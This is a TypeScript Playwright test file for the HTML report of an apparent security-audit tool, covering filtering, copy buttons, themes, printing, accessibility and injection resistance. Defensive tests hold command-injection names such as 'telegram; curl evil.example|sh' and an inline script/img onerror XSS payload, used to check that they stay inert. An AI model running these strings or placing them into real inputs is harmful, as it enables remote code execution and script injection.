import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { catalogue } from '../../src/checks/rules.ts';
import { PATHS_SCRIPT } from '../../src/render/html-paths-script.ts';
import { HTML_SCRIPT } from '../../src/render/html-script.ts';
import { Pages, renderPage, unsafeReport, violations, withPaths } from './browser.ts';
import { hostileExposure } from './exposures.ts';
import { emptyReport, finding, HOSTILE, hostileReport, RAW } from './reports.ts';

const pages = new Pages();
const shown = (page: Page) => page.locator('.finding:visible').count();

describe('HTML', () => {
  test('the script is small, and the file names nothing outside of itself', async () => {
    expect(Buffer.byteLength(HTML_SCRIPT)).toBeLessThan(10_000);
    expect(Buffer.byteLength(HTML_SCRIPT + PATHS_SCRIPT)).toBeLessThan(20_000);
    const text = renderPage(await withPaths());
    expect(text).not.toMatch(/\s(?:src|srcset|style|on\w+)=/i);
    expect((text.match(/\shref="([^"]*)"/g) ?? []).filter((h) => !h.includes('href="#'))).toEqual([]);
    expect(text.match(/<script/g)).toHaveLength(1);
  });

  test('findings are filtered by severity and area, and found by words', async () => {
    const report = await unsafeReport();
    await pages.with(report, async (page) => {
      expect(await shown(page)).toBe(report.findings.length);
      await page.getByRole('checkbox', { name: 'Warning' }).uncheck();
      await page.getByRole('checkbox', { name: 'Note' }).uncheck();
      expect(await shown(page)).toBe(report.summary.critical);
      await page.getByRole('checkbox', { name: 'Warning' }).check();
      await page.getByLabel('Area').selectOption('logging');
      expect(await shown(page)).toBe(1);
      await page.getByLabel('Area').selectOption('');
      await page.getByRole('searchbox', { name: 'Search' }).fill('TELEGRAM  group');
      const words = report.findings.filter((f) => f.severity !== 'info');
      await expect.poll(() => shown(page)).toBeLessThan(words.length);
      expect(await page.locator('#count').textContent()).toMatch(/^[1-9]\d* of /);
      await page.getByRole('searchbox', { name: 'Search' }).fill('no such thing');
      await expect.poll(() => page.locator('#count').textContent()).toBe(`0 of ${report.findings.length} shown`);
      expect(await shown(page)).toBe(0);
    });
  });

  test('a finding unfolds with the keyboard and shows its source, next step and fix', async () => {
    await pages.with(await unsafeReport(), async (page) => {
      const item = page.locator('.finding', { hasText: 'logging.redact_off' }).first();
      await item.locator('summary').focus();
      await page.keyboard.press('Enter');
      expect(await item.locator('pre mark').textContent()).toBe('redactSensitive: "off"');
      expect(await item.locator('.body').textContent()).toContain('openclaw config set logging.redactSensitive tools');
      await page.locator('#fixes ~ table a').first().click();
      expect(await page.locator('.finding[open]').count()).toBe(2);
    });
  });

  test('a command is copied as it is shown', async () => {
    await pages.with(
      await unsafeReport(),
      async (page) => {
        const item = page.locator('.finding', { hasText: 'logging.redact_off' }).first();
        await item.locator('summary').click();
        await item.getByRole('button', { name: 'Copy' }).click();
        await expect.poll(() => page.locator('#said').textContent()).toBe('Copied');
        expect(await page.evaluate('navigator.clipboard.readText()')).toBe(
          'openclaw config set logging.redactSensitive tools',
        );
      },
      { permissions: ['clipboard-read', 'clipboard-write'] },
    );
  });

  test('a finding about a way tells it step by step, and then only the places that are not on it', () => {
    const at = (line: number) => ({ file: '/home/u/.openclaw/a.js', line, column: 1, exact: true });
    const flows = [
      [
        { location: at(1), text: 'reads a key' },
        { location: at(2), text: 'sends it' },
      ],
    ];
    const one = finding(1, { locations: [at(2), at(1), at(7)], flows });
    const text = renderPage({ ...emptyReport(), findings: [one] });
    expect(text).toContain(
      '<h4>Step by step</h4><ol><li>reads a key <span class="dim">a.js:1:1</span></li><li>sends it <span class="dim">a.js:2:1</span></li></ol>',
    );
    expect(text).toContain('<h4>Also at</h4><ul class="dim"><li>a.js:7:1</li></ul>');
  });

  test.each([
    ['a name that ends the command', 'telegram; curl evil.example|sh', 0],
    ['a name that brings a command of its own', 'x` or `curl evil.example', 0],
    ['a plain name', 'telegram', 1],
  ])('no button copies %s', async (_, name, buttons) => {
    const rule = catalogue().rules.find((r) => r.id === 'channels.<provider>.groups.open')!;
    const remedy = Object.values(rule.variants)[0]!.remedy ?? rule.remedy;
    const remediation = remedy.replaceAll(/\{\w+\}/g, name);
    const one = finding(1, {
      checkId: `channels.${name}.groups.open`,
      variant: Object.keys(rule.variants)[0]!,
      remediation,
    });
    expect(renderPage({ ...emptyReport(), findings: [one] }).match(/class="copy/g) ?? []).toHaveLength(buttons);
  });

  test('dark where the system is dark, and the other theme on request', async () => {
    const report = await unsafeReport();
    const ground = (page: Page) => page.evaluate<string>('getComputedStyle(document.body).backgroundColor');
    await pages.with(report, async (page) => expect(await ground(page)).toBe('rgb(255, 255, 255)'));
    await pages.with(
      report,
      async (page) => {
        expect(await ground(page)).toBe('rgb(18, 21, 26)');
        await page.getByRole('button', { name: 'Light or dark' }).click();
        expect(await ground(page)).toBe('rgb(255, 255, 255)');
        await page.getByRole('button', { name: 'Light or dark' }).click();
        expect(await ground(page)).toBe('rgb(18, 21, 26)');
      },
      { colorScheme: 'dark' },
    );
  });

  test('paper shows everything unfolded on white, without the controls', async () => {
    const report = await withPaths();
    await pages.with(
      report,
      async (page) => {
        await page.evaluate("document.documentElement.dataset.theme = 'dark'");
        await page.emulateMedia({ media: 'print' });
        await page.evaluate("dispatchEvent(new Event('beforeprint'))");
        expect(await page.locator('.finding[open]').count()).toBe(report.findings.length);
        expect(await page.locator('.path[open] .boundaries').count()).toBeGreaterThan(report.exposure!.paths.length);
        expect(await page.locator('.bar:visible').count()).toBe(0);
        expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)');
        await page.evaluate("dispatchEvent(new Event('afterprint'))");
        expect(await page.locator('.finding[open]').count()).toBe(0);
        expect((await page.pdf()).length).toBeGreaterThan(10_000);
      },
      { colorScheme: 'dark' },
    );
  });

  test.each(['light', 'dark'] as const)('axe finds nothing serious, %s, folded and unfolded', async (colorScheme) => {
    const report = { ...(await withPaths()), suppressedFindings: hostileReport().suppressedFindings!.slice(3, 6) };
    await pages.with(
      report,
      async (page) => {
        expect(await violations(page)).toEqual([]);
        await page.getByRole('button', { name: 'Unfold or fold' }).click();
        expect(await page.locator('.finding[open]').count()).toBe(report.findings.length);
        await page.locator('.path summary').first().click();
        await page.getByRole('button', { name: 'Apply the smallest set' }).click();
        await expect.poll(() => page.locator('.line.faint').count()).toBe(0);
        expect(await violations(page)).toEqual([]);
      },
      { colorScheme },
    );
  });

  test('all of it can be read without the script', async () => {
    await pages.with(
      await withPaths(),
      async (page) => {
        expect(await page.locator('.bar:visible').count()).toBe(0);
        expect(await page.locator('#graph .node:visible').count()).toBe(13);
        await page.locator('.path summary').first().click();
        const steps = page.locator('.path').first().locator('.steps li');
        expect(await steps.first().textContent()).toBe(
          'Anyone on Telegram → Telegram direct messages: writes a direct message',
        );
        await steps.first().locator('a').click();
        await expect.poll(() => page.locator('#step-0').isVisible()).toBe(true);
        expect(await page.locator('#step-0').textContent()).toContain('channels.json5:6:5 channels.telegram.allowFrom');
        expect(await page.locator('.edit').first().textContent()).toMatch(/in a sandbox.*in the smallest set/);
        expect(await page.locator('.edit input:visible').count()).toBe(0);
        await page.locator('.finding summary').first().click();
        expect(await page.locator('.finding .body').first().isVisible()).toBe(true);
      },
      { javaScriptEnabled: false },
    );
  });

  test('hostile names are inert: nothing runs, nothing is asked for, no element of theirs comes to be', async () => {
    const report = { ...hostileReport(), exposure: hostileExposure() };
    expect(renderPage(report)).not.toMatch(RAW);
    await pages.with(report, async (page) => {
      await page.getByRole('button', { name: 'Unfold or fold' }).click();
      for (const path of await page.locator('.path summary').all()) await path.click();
      await page.getByRole('button', { name: 'Apply the smallest set' }).click();
      expect(await page.locator('.path.shut').count()).toBe(1);
      expect(await page.locator('.commands .copy').count()).toBe(HOSTILE.filter((h) => /^[\w-]+$/.test(h)).length);
      expect(await page.locator('script').count()).toBe(1);
      expect(await page.locator('img, iframe, a[href^="javascript"], a[href^="http"], x').count()).toBe(0);
      expect(await shown(page)).toBe(HOSTILE.length);
      const text = await page.locator('main').textContent();
      expect(text).toContain(HOSTILE[8]);
      expect(text).toContain(HOSTILE[3]);
      expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    });
  });

  test('even markup that got in would not run', async () => {
    const evil =
      '<script>document.title = "evil"</script><img src="http://127.0.0.1:9/x" onerror="document.title = 1">';
    const document = renderPage(await withPaths()).replace('<main>', `<main>${evil}`);
    const said = await pages.consoleOf(document, async (page) => {
      expect(await page.title()).toBe('OpenClaw security audit');
    });
    expect(said.filter((b) => /Content Security Policy/.test(b)).length).toBeGreaterThanOrEqual(2);
  });

  test('the fix plan lists what to run, ready to copy', async () => {
    await pages.with(
      await unsafeReport(),
      async (page) => {
        await page.getByRole('link', { name: 'Fix plan' }).click();
        const list = page.locator('#fixes ~ .copied').last();
        await list.getByRole('button', { name: 'Copy' }).click();
        await expect.poll(() => page.locator('#said').textContent()).toBe('Copied');
        const lines = (await page.evaluate<string>('navigator.clipboard.readText()')).split('\n');
        expect(lines).toContain('openclaw-security fix apply --only channels.telegram.dm.open --unsafe');
        for (const line of lines) expect(line).toMatch(/^openclaw-security fix apply --only [\w.]+ --unsafe$/);
      },
      { permissions: ['clipboard-read', 'clipboard-write'] },
    );
  });

  test('500 findings are filtered in the time of a frame or few', async () => {
    const findings = Array.from({ length: 500 }, (_, i) =>
      finding(i, { severity: (['critical', 'warn', 'info'] as const)[i % 3]!, detail: `number ${i}` }),
    );
    await pages.with({ ...emptyReport(), findings }, async (page) => {
      expect(await shown(page)).toBe(500);
      const took = await page.evaluate<number>(`(() => {
        const start = performance.now();
        const box = document.querySelector('.bar input[type=checkbox]');
        box.click();
        document.body.offsetHeight;
        return performance.now() - start;
      })()`);
      expect(await shown(page)).toBe(333);
      // A person takes up to 100 ms for at once; the machine may be busy.
      expect(took).toBeLessThan(300);
    });
  });
});
